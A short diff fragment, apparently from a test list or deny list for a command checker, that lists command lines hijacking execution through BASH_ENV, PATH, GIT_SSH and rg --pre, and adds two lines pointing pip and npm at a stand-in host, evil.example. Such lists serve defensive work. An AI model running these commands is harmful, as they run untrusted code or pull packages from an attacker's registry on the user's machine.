@@ -5,3 +5,5 @@ BASH_ENV=x.sh bash script.sh
 PATH=/tmp/x:$PATH ls
 export GIT_SSH=./x; git fetch
 rg --pre ./x pattern
+PIP_INDEX_URL=https://evil.example/simple pip install requests
+npm config set registry https://evil.example
